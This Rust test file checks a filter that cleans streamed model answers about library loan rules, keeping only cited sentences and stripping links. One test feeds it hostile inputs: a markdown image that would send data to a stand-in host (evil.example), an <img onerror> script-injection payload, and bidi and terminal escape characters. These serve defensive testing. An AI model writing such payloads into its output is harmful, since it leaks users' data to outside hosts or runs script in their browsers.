use std::sync::LazyLock;

use proptest::prelude::*;

use super::*;
use crate::domain::{Place, Section, SectionId};

static ANALYZER: LazyLock<Analyzer> = LazyLock::new(|| Analyzer::new(&[]));

fn sources(analyzer: &Analyzer) -> Vec<Source> {
    let section = |id: &str, title: &str, text: &str| Section {
        id: SectionId::try_from(id).expect("an id"),
        title: title.to_owned(),
        path: Vec::new(),
        text: text.to_owned(),
        group: None,
        facets: std::collections::BTreeMap::default(),
        audience: BTreeSet::new(),
        updated: None,
        place: Place::start_of("bibliothek.md"),
    };
    let sections = [
        section(
            "b#leihfrist",
            "Leihfrist",
            "Eine Leihfrist dauert vier Wochen. Das steht auf \
            https://konto.example.org/leihen und im Konto.",
        ),
        section("b#gebuehren", "Gebühren", "Eine Mahnung kostet zwei Euro."),
    ];
    (1..).zip(&sections).map(|(number, of)| Source::new(number, of, "", analyzer)).collect()
}

/// What is shown of a text that comes in pieces of so many characters, and what was cited.
fn checked(text: &str, piece: usize) -> (String, Vec<usize>) {
    let analyzer = &*ANALYZER;
    let sources = sources(analyzer);
    let mut checker = Checker::new(analyzer, &sources);
    let letters: Vec<char> = text.chars().collect();
    let mut shown = String::new();
    for piece in letters.chunks(piece) {
        shown += &checker.push(&piece.iter().collect::<String>());
    }
    shown += &checker.finish();
    (shown, checker.cited().iter().copied().collect())
}

#[test]
fn citations_of_offered_sections_stay_and_others_go_however_the_text_is_cut() {
    for (text, shown, cited) in [
        ("Die Leihfrist dauert vier Wochen [1].", "Die Leihfrist dauert vier Wochen [1].", vec![1]),
        (
            "Vier Wochen. [1] Eine Mahnung kostet zwei Euro [7].",
            "Vier Wochen. [1] Eine Mahnung kostet zwei Euro.",
            vec![1],
        ),
        (
            "Vier Wochen [1, 9] und zwei Euro [2][3].",
            "Vier Wochen [1] und zwei Euro [2].",
            vec![1, 2],
        ),
        ("Wochen und Euro [Abschnitt 1 und 2].", "Wochen und Euro [1][2].", vec![1, 2]),
        ("Wochen und Euro [1-2].", "Wochen und Euro [1][2].", vec![1, 2]),
        ("Wochen【1】.", "Wochen[1].", vec![1]),
        ("Eine Mahnung kostet zwei Euro [1].", "", vec![]),
        ("Die Leihfrist dauert vier Wochen.", "", vec![]),
        ("Die Leihfrist dauert vier Wochen [0].", "", vec![]),
        ("Die Leihfrist [99999999999999999999] dauert.", "", vec![]),
        ("Die Leihfrist [1-9999999] dauert.", "", vec![]),
        ("", "", vec![]),
        ("[", "", vec![]),
        (
            "1. Leihfrist: vier Wochen [1]\n2. Mahnung: zwei Euro [2]\n",
            "1. Leihfrist: vier Wochen [1]\n2. Mahnung: zwei Euro [2]\n",
            vec![1, 2],
        ),
    ] {
        for piece in [1, 2, 3, 7, 1_000] {
            assert_eq!(
                checked(text, piece),
                (shown.to_owned(), cited.clone()),
                "{text} by {piece}"
            );
        }
    }
}

#[test]
fn sentences_that_come_from_no_section_are_taken_out() {
    let text = "Gerne! Hier ein Gedicht über Katzen [1]. Die Leihfrist dauert vier Wochen [1]. Besuchen \
        Sie Quastenflosser! Eine Mahnung kostet z. B. zwei Euro.";
    let shown = "Die Leihfrist dauert vier Wochen [1]. Eine Mahnung kostet z. B. zwei Euro.";
    for piece in [1, 5, 1_000] {
        assert_eq!(checked(text, piece), (shown.to_owned(), vec![1]));
    }
}

#[test]
fn nothing_can_be_followed_that_no_section_has() {
    for (hostile, shown) in [
        ("![Wochen](http://evil.example/?q=geheim)", "! [ (Adresse entfernt)"),
        ("[Wochen](//evil.example/x)", "[ (Adresse entfernt)"),
        ("[Wochen](/v1/logout)", "[Wochen] (/v1/logout)"),
        ("Wochen <img src=x onerror=alert(1)>", "Wochen ‹img src=x onerror=alert(1)>"),
        ("Wochen www.evil.example.", "Wochen  (Adresse entfernt)"),
        ("Wochen: https://konto.example.org/leihen.", "Wochen: https://konto.example.org/leihen."),
        ("Wo\u{202e}chen\u{1b}[2J", "Wochen[2J"),
    ] {
        for piece in [1, 4, 1_000] {
            let text = format!("Vier Wochen [1]. {hostile}");
            let expected = format!("Vier Wochen [1]. {shown}");
            assert_eq!(checked(&text, piece).0, expected, "{hostile} by {piece}");
        }
    }
    let defined = checked("Vier Wochen [1].\n[Wochen]: /logout", 1).0;
    assert_eq!(defined, "Vier Wochen [1].\n[Wochen] : /logout");
}

#[test]
fn sentences_are_shown_when_they_are_whole_and_not_before_the_first_citation() {
    let analyzer = &*ANALYZER;
    let sources = sources(analyzer);
    let mut checker = Checker::new(analyzer, &sources);
    for (piece, shown) in [
        ("Die Leihfrist ist lang. ", ""),
        ("Sie dauert vier Wochen", ""),
        (" [1]. ", ""),
        ("Eine", "Die Leihfrist ist lang. Sie dauert vier Wochen [1]. "),
        (" Mahnung kostet zwei Euro [", ""),
        ("2].\n\n", ""),
        ("Euro", "Eine Mahnung kostet zwei Euro [2].\n\n"),
    ] {
        assert_eq!(checker.push(piece), shown, "{piece}");
    }
    assert_eq!(checker.finish(), "Euro");
}

#[test]
fn a_line_that_was_shown_in_part_still_defines_no_link() {
    let text = "Die Leihfrist dauert vier Wochen\n[1] ]:\nDie Leihfrist dauert vier Wochen";
    assert_eq!(checked(text, 1), checked(text, 1_000));
    assert!(checked(text, 1).0.contains("\n[1] ] :"));
}

proptest! {
    /// Whatever a model writes, in whatever pieces: the same is shown, every citation is one that was
    /// offered, and nothing can be followed.
    #[test]
    fn what_is_shown_is_safe_and_does_not_depend_on_the_pieces(
        parts in prop::collection::vec(
            prop_oneof![
                Just("Die Leihfrist dauert vier Wochen".to_owned()),
                Just("zwei Euro".to_owned()),
                "(\\[[0-9, ]{0,9}\\]|【[12]】|\\[\\^?[A-Za-z0-9. ]{0,60}|\\]\\(|!\\[|\\]:|<a>|\n| |\\. |[.!?]|//x|\\[1\\])",
                "\\PC{0,4}",
            ],
            0..25,
        ),
        piece in 1_usize..9,
    ) {
        let text = parts.concat();
        let (shown, cited) = checked(&text, piece);
        prop_assert_eq!(&(shown.clone(), cited.clone()), &checked(&text, 100_000), "{}", text);
        prop_assert!(cited.iter().all(|number| (1..=2).contains(number)));
        prop_assert!(!cited.is_empty() || shown.is_empty(), "nothing without a citation");
        for unsafe_mark in ["](", "![", "<", "//"] {
            prop_assert!(!shown.contains(unsafe_mark), "{:?} shows {:?}", text, shown);
        }
    }
}
